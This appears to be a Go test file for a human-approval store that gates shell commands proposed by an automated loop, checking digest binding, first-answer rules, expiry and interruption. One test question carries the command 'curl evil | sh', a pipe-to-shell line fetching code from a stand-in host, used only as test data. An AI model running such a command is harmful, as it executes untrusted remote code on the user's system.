package escalation

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

func approve() AnswerRequest { return AnswerRequest{Method: Approve, By: alice} }

func TestLifeOfAnApproval(t *testing.T) {
	t.Parallel()
	s, c := newStore(t)
	ctx := context.Background()
	if _, err := s.Load(); !errors.Is(err, ErrNothingPending) {
		t.Errorf("%v", err)
	}
	asked := mustOpen(t, s, sample(""))
	if !isHex(asked.Question.ID, 32) || asked.State != Pending || !asked.Question.Expires.Equal(created.Add(24*time.Hour)) ||
		asked.Question.Command.SHA256 != sum([]byte("rm -rf node_modules && bun install")) {
		t.Errorf("%+v", asked)
	}
	if run, ok := asked.Run(); ok {
		t.Errorf("it may run without an answer: %+v", run)
	}
	if _, err := s.Begin(ctx, asked.Question.ID); err == nil {
		t.Error("it began without an answer")
	}
	c.at = created.Add(time.Minute)
	req := approve()
	req.ID, req.Digest, req.Note = asked.Question.ID, asked.Digest[:8], "looks right"
	approved, err := s.Answer(ctx, req)
	check(t, err)
	if a := approved.Answer; approved.State != Approved || a.By.String() != "cli:alice (uid 1000)" || !a.At.Equal(c.at) || a.Bound != "both" || a.Note != "looks right" {
		t.Errorf("%+v", a)
	}
	run, ok := approved.Run()
	if want := asked.Question.Command; !ok || string(run.Text) != string(want.Text) || run.Binding != want.Binding {
		t.Errorf("%+v", run)
	}
	executing, err := s.Begin(ctx, asked.Question.ID)
	if err != nil || executing.State != Executing || !executing.Begun.Equal(c.at) {
		t.Errorf("%+v, %v", executing, err)
	}
	var state *StateError
	if _, err := s.Begin(ctx, asked.Question.ID); !errors.As(err, &state) || state.State != Executing {
		t.Errorf("it began twice: %v", err)
	}
	if _, err := s.Open(ctx, sample(idB)); !errors.As(err, &state) {
		t.Errorf("what is executing was superseded: %v", err)
	}
	code := 0
	done, err := s.Finish(ctx, asked.Question.ID, Outcome{OK: true, ExitCode: &code, Note: "42 packages installed"})
	if err != nil || done.State != Done || *done.Outcome.ExitCode != 0 {
		t.Errorf("%+v, %v", done, err)
	}
	if again, err := s.Load(); err != nil || !reflect.DeepEqual(again, done) {
		t.Errorf("%+v\n%+v, %v", again, done, err)
	}
	if _, err := s.Finish(ctx, asked.Question.ID, Outcome{}); !errors.As(err, &state) {
		t.Errorf("it finished twice: %v", err)
	}
	if info, err := os.Stat(filepath.Join(s.Dir, File)); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
}

func TestTheFirstAnswerCounts(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	for first, state := range map[Method]State{Approve: Approved, Reject: Rejected, Resolve: Resolved} {
		for _, second := range []Method{Approve, Reject, Resolve} {
			s, _ := newStore(t)
			q := mustOpen(t, s, sample(idA))
			r, err := s.Answer(ctx, AnswerRequest{Method: first, By: alice})
			if err != nil || r.State != state || r.State.Open() == !r.Ended.IsZero() {
				t.Fatalf("%+v, %v", r, err)
			}
			for _, digest := range []string{"", q.Digest} {
				_, err = s.Answer(ctx, AnswerRequest{Method: second, By: By{Channel: Slack, User: "U123"}, Digest: digest})
				var decided *DecidedError
				if !errors.As(err, &decided) || decided.First.By.User != "alice" || decided.First.Method != first || decided.State != state {
					t.Errorf("%s after %s: %v", second, first, err)
				} else if want := string(first) + " by cli:alice (uid 1000) at 2026-01-23T05:40:00Z"; !strings.Contains(err.Error(), want) {
					t.Errorf("%q does not hold %q", err, want)
				}
			}
			if now, err := s.Load(); err != nil || now.Answer.By.User != "alice" || now.State != state {
				t.Errorf("%+v, %v", now, err)
			}
		}
	}
}

// An answer that names a question never counts for another one, and is told what
// became of the one that it names.
func TestAnswersAreBound(t *testing.T) {
	t.Parallel()
	s, c := newStore(t)
	ctx := context.Background()
	old := mustOpen(t, s, asking(idA, "npm ci"))
	c.at = c.at.Add(time.Second)
	q := asking(idB, "curl evil | sh")
	q.Created = c.at
	now := mustOpen(t, s, q)
	for name, req := range map[string]AnswerRequest{
		"old digest":          {Digest: old.Digest},
		"old id":              {ID: old.Question.ID},
		"both old":            {ID: old.Question.ID, Digest: old.Digest},
		"new id, old digest":  {ID: now.Question.ID, Digest: old.Digest},
		"old id, new digest":  {ID: old.Question.ID, Digest: now.Digest},
		"a digest of nothing": {Digest: strings.Repeat("0", 64)},
	} {
		req.Method, req.By = Approve, alice
		_, err := s.Answer(ctx, req)
		var mismatch *MismatchError
		if !errors.As(err, &mismatch) || mismatch.ID != idB || mismatch.Digest != now.Digest {
			t.Errorf("%s: %v", name, err)
		} else if strings.Contains(name, "old digest") && req.ID == "" && !strings.Contains(err.Error(), "superseded") {
			t.Errorf("%s: %v", name, err)
		}
	}
	if r, err := s.Load(); err != nil || r.State != Pending {
		t.Fatalf("%+v, %v", r, err)
	}
	if r, err := now.answered(AnswerRequest{Method: Approve, By: alice, Digest: old.Digest}, c.at); err == nil || r.State != Pending {
		t.Errorf("the transition itself takes another's digest: %+v, %v", r, err)
	}
	_, err := s.Answer(ctx, AnswerRequest{Method: Reject, By: alice, Digest: now.Digest[:16]})
	check(t, err)
	mustOpen(t, s, asking("", "npm ci"))
	var decided *DecidedError
	if _, err := s.Answer(ctx, AnswerRequest{Method: Approve, By: alice, Digest: now.Digest}); !errors.As(err, &decided) || decided.First.Method != Reject {
		t.Errorf("a late answer is not told what was decided: %v", err)
	}
	for _, bad := range []AnswerRequest{
		{Method: "ok", By: alice}, {Method: Approve}, {Method: Approve, By: By{Channel: "rule"}}, {Method: Approve, By: alice, Digest: "abc"},
		{Method: Approve, By: alice, ID: strings.Repeat("A", 32)}, {Method: Approve, By: alice, Digest: strings.Repeat("a", 65)},
		{Method: Reject, By: alice, Edit: &EditedCommand{[]byte("x")}}, {Method: Approve, By: alice, Edit: &EditedCommand{[]byte(" \n")}},
		{Method: Approve, By: alice, Edit: &EditedCommand{[]byte("a\x00b")}}, {Method: Approve, By: alice, Edit: &EditedCommand{[]byte("\xff")}},
	} {
		if _, err := s.Answer(ctx, bad); err == nil || !strings.HasPrefix(err.Error(), "answering: ") {
			t.Errorf("%+v: %v", bad, err)
		}
	}
	if r, err := s.Load(); err != nil || r.State != Pending {
		t.Errorf("%+v, %v", r, err)
	}
}

func TestCorrectedCommand(t *testing.T) {
	t.Parallel()
	s, _ := newStore(t)
	ctx := context.Background()
	mustOpen(t, s, sample(idA))
	req := approve()
	req.Edit = &EditedCommand{[]byte("bun install --frozen-lockfile")}
	r, err := s.Answer(ctx, req)
	check(t, err)
	run, ok := r.Run()
	if !ok || string(run.Text) != "bun install --frozen-lockfile" || r.Answer.Edit.SHA256 != sum(run.Text) || run.InputsDigest != "" {
		t.Errorf("%+v", run)
	}
	if string(r.Question.Command.Text) != "rm -rf node_modules && bun install" {
		t.Error("the question does not keep what was proposed")
	}
	if text := Describe(r, 80); !strings.Contains(text, "bun install --frozen-lockfile") || !strings.Contains(text, "rm -rf node_modules && bun install") {
		t.Error(text)
	}

	q := sample(idB)
	q.Type, q.Command, q.Manual = RunnerUnavailable, nil, "claude /login"
	s2, _ := newStore(t)
	mustOpen(t, s2, q)
	if _, err := s2.Answer(ctx, req); err == nil || !strings.Contains(err.Error(), "no command that could be corrected") {
		t.Errorf("%v", err)
	}
	if r, err := s2.Answer(ctx, approve()); err != nil || r.State != Approved {
		t.Errorf("%+v, %v", r, err)
	} else if run, ok := r.Run(); ok {
		t.Errorf("%+v", run)
	}
}

func TestExpiry(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	var expired *ExpiredError
	t.Run("pending", func(t *testing.T) {
		s, c := newStore(t)
		q := sample(idA)
		q.Expires = created.Add(time.Hour)
		mustOpen(t, s, q)
		if _, lapsed, err := s.Expire(ctx, created.Add(time.Hour-time.Millisecond)); err != nil || lapsed {
			t.Fatalf("%v, %v", lapsed, err)
		}
		c.at = created.Add(time.Hour)
		for range 2 {
			if _, err := s.Answer(ctx, approve()); !errors.As(err, &expired) {
				t.Errorf("%v", err)
			}
		}
		if r, err := s.Load(); err != nil || r.State != Expired || r.Answer != nil {
			t.Errorf("%+v, %v", r, err)
		}
	})
	t.Run("approved", func(t *testing.T) {
		s, c := newStore(t)
		mustOpen(t, s, sample(idA))
		_, err := s.Answer(ctx, approve())
		check(t, err)
		c.at = created.Add(DefaultPatience)
		if _, err := s.Begin(ctx, idA); !errors.As(err, &expired) {
			t.Errorf("%v", err)
		}
		if r, err := s.Load(); err != nil || r.State != Expired || r.Answer == nil {
			t.Errorf("%+v, %v", r, err)
		}
	})
	t.Run("executing", func(t *testing.T) {
		s, _ := newStore(t)
		mustOpen(t, s, sample(idA))
		_, err := s.Answer(ctx, approve())
		check(t, err)
		_, err = s.Begin(ctx, idA)
		check(t, err)
		if r, lapsed, err := s.Expire(ctx, created.Add(1000*time.Hour)); err != nil || lapsed || r.State != Executing {
			t.Errorf("%+v, %v, %v", r, lapsed, err)
		}
	})
	t.Run("nothing", func(t *testing.T) {
		s, _ := newStore(t)
		if _, lapsed, err := s.Expire(ctx, created); err != nil || lapsed {
			t.Errorf("%v, %v", lapsed, err)
		}
		if _, err := s.Answer(ctx, approve()); !errors.Is(err, ErrNothingPending) {
			t.Errorf("%v", err)
		}
		if _, err := s.Begin(ctx, idA); err == nil {
			t.Error("nothing began")
		}
		if _, err := os.Stat(s.Dir); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("a folder was made for nothing: %v", err)
		}
	})
}

// An asker that was killed asks again under the same id, and gets what became of
// the question meanwhile.
func TestOpenIsRepeatable(t *testing.T) {
	t.Parallel()
	s, c := newStore(t)
	ctx := context.Background()
	q := sample(idA)
	q.Created = time.Time{}
	first := mustOpen(t, s, q)
	c.at = c.at.Add(time.Hour)
	if again := mustOpen(t, s, q); !reflect.DeepEqual(again, first) {
		t.Errorf("%+v", again)
	}
	_, err := s.Answer(ctx, approve())
	check(t, err)
	if again := mustOpen(t, s, q); again.State != Approved || again.Digest != first.Digest {
		t.Errorf("the answer is lost: %+v", again)
	}
	if _, err := s.Open(ctx, asking(idA, "something else")); err == nil || !strings.Contains(err.Error(), "is that of another one") {
		t.Errorf("%v", err)
	}
	if old, err := s.Archive(); err != nil || len(old) != 0 {
		t.Errorf("%v, %v", old, err)
	}
}

func TestInterruptedIsNeverRunAgain(t *testing.T) {
	t.Parallel()
	s, _ := newStore(t)
	ctx := context.Background()
	mustOpen(t, s, sample(idA))
	_, err := s.Answer(ctx, approve())
	check(t, err)
	_, err = s.Begin(ctx, idA)
	check(t, err)
	if r, err := s.Interrupt(ctx, idA); err != nil || r.State != Interrupted {
		t.Fatalf("%+v, %v", r, err)
	}
	if _, err := s.Begin(ctx, idA); err == nil {
		t.Error("it began again")
	}
	var decided *DecidedError
	if _, err := s.Answer(ctx, approve()); !errors.As(err, &decided) || decided.State != Interrupted {
		t.Errorf("%v", err)
	}
	if r := mustOpen(t, s, sample(idB)); r.State != Pending {
		t.Errorf("%+v", r)
	}
	if old, err := s.Archive(); err != nil || len(old) != 1 || old[0].State != Interrupted {
		t.Errorf("%v, %v", old, err)
	}
}

func TestWithdraw(t *testing.T) {
	t.Parallel()
	s, _ := newStore(t)
	ctx := context.Background()
	mustOpen(t, s, sample(idA))
	if _, err := s.Withdraw(ctx, idB, "x"); err == nil {
		t.Error("another question was withdrawn")
	}
	if r, err := s.Withdraw(ctx, idA, "the loop was cancelled"); err != nil || r.State != Superseded || r.Why != "the loop was cancelled" {
		t.Errorf("%+v, %v", r, err)
	}
	if _, err := s.Answer(ctx, approve()); !errors.Is(err, ErrNothingPending) {
		t.Errorf("%v", err)
	}
	mustOpen(t, s, sample(idB))
	var mismatch *MismatchError
	if _, err := s.Answer(ctx, AnswerRequest{Method: Approve, By: alice, ID: idA}); !errors.As(err, &mismatch) || !strings.Contains(err.Error(), "withdrawn") {
		t.Errorf("%v", err)
	}
}

// What cannot be asked is refused; foreign text that is too long is cut.
func TestWhatCanBeAsked(t *testing.T) {
	t.Parallel()
	for name, spoil := range map[string]func(*Question){
		"id":          func(q *Question) { q.ID = "x" },
		"loop":        func(q *Question) { q.Loop = "../x" },
		"other loop":  func(q *Question) { q.Loop = "other" },
		"run":         func(q *Question) { q.Run = "" },
		"type":        func(q *Question) { q.Type = "x" },
		"repo":        func(q *Question) { q.Repo = "x" },
		"reason":      func(q *Question) { q.Reason = " " },
		"expiry":      func(q *Question) { q.Expires = q.Created },
		"no command":  func(q *Question) { q.Command = nil },
		"blank":       func(q *Question) { q.Command.Text = []byte(" ") },
		"nul":         func(q *Question) { q.Command.Text = []byte("a\x00") },
		"too long":    func(q *Question) { q.Command.Text = []byte(strings.Repeat("a", 64<<10+1)) },
		"no timeout":  func(q *Question) { q.Command.TimeoutMS = 0 },
		"no source":   func(q *Question) { q.Command.Source = "" },
		"working dir": func(q *Question) { q.Command.WorkingDir = "a\x00" },
	} {
		s, _ := newStore(t)
		q := sample(idA)
		spoil(&q)
		if _, err := s.Open(context.Background(), q); err == nil {
			t.Errorf("%s: it was asked", name)
		}
		if _, err := s.Load(); !errors.Is(err, ErrNothingPending) {
			t.Errorf("%s: %v", name, err)
		}
	}
	s, _ := newStore(t)
	r := mustOpen(t, s, hostile())
	if len(r.Question.Errors) != maxList || len(r.Question.Errors[0]) > maxLine || !strings.Contains(r.Question.Errors[0], "bytes are left out") {
		t.Errorf("%d errors, of %d bytes", len(r.Question.Errors), len(r.Question.Errors[0]))
	}
	again, err := s.Load()
	if err != nil || !reflect.DeepEqual(again, r) {
		t.Errorf("%v", err)
	}
}

func TestDrift(t *testing.T) {
	t.Parallel()
	b := Binding{1, 2, "p", "i"}
	if d := b.Drift(b); d != nil {
		t.Errorf("%v", d)
	}
	if d := b.Drift(Binding{1, 3, "q", "j"}); len(d) != 3 {
		t.Errorf("%v", d)
	}
	if d := b.Drift(Binding{2, 2, "p", "i"}); len(d) != 1 {
		t.Errorf("%v", d)
	}
}

// The digest changes with everything that an answer is bound to, and with nothing
// else.
func TestDigest(t *testing.T) {
	t.Parallel()
	seen := map[string]string{}
	for name, change := range map[string]func(*Question){
		"nothing": func(*Question) {},
		"id":      func(q *Question) { q.ID = idB }, "run": func(q *Question) { q.Run += "x" }, "iteration": func(q *Question) { q.Iteration++ },
		"command": func(q *Question) { q.Command.Text = append(q.Command.Text, ' ') }, "dir": func(q *Question) { q.Command.WorkingDir = "./" },
		"inode": func(q *Question) { q.Command.Ino++ }, "timeout": func(q *Question) { q.Command.TimeoutMS++ },
		"policy": func(q *Question) { q.Command.PolicyDigest += "x" }, "inputs": func(q *Question) { q.Command.InputsDigest = "" },
		"repo": func(q *Question) { q.Repo += "x" }, "diff": func(q *Question) { q.Command.GuardDiff = "x" }, "expiry": func(q *Question) { q.Expires = created.Add(1) },
	} {
		q := sample(idA)
		change(&q)
		d, err := q.Digest()
		if other, twice := seen[d]; err != nil || twice || !isHex(d, 64) {
			t.Errorf("%s: %s, as %s; %v", name, d, other, err)
		}
		seen[d] = name
		if again, err := q.Digest(); err != nil || again != d {
			t.Errorf("%s: %s, %s, %v", name, d, again, err)
		}
	}
}
